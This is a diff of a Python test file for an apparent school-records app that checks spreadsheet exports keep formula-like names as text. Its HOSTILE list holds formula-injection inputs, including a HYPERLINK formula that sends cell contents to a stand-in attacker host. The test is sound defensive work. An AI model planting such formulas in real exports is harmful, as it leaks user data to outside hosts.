@@ -19,7 +19,7 @@ from edu_guard.db import db
 #: What a hostile (or careless) clerk types as a name: each would be a live formula in a
 #: cell written as-is (=, +, - and @ start a formula in Excel; a tab or CR starts one
 #: in some spreadsheet programs).
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1", "-2", "@SUM(A1:A9)"]
+HOSTILE = ['=HYPERLINK("http://evil/?x="&A1,"点击查看")', "+1", "-2", "@SUM(A1:A9)"]  # no full stop: names turn it into ·
 
 
 def _hostile(i: int) -> str:
@@ -93,7 +93,7 @@ def test_every_export_keeps_formula_like_text_as_text(app_ctx, demo_dir, tmp_pat
     invoke("import", "roster", roster, "--rejects", rejects)
     invoke("import", "families", demo_dir / "monitoring_households_2021.xlsx")
     stored = set(db.session.execute(sa.select(Child.name)).scalars())
-    assert names <= stored  # imported as typed
+    assert names <= stored, stored  # imported as typed
     run = db.session.execute(sa.select(ImportRun).where(ImportRun.filename == "roster.csv")).scalar_one()
     rejected_names = {r["values"]["姓名"] for r in run.rejects if r["values"].get("姓名")}
     assert rejected_names and rejected_names <= names
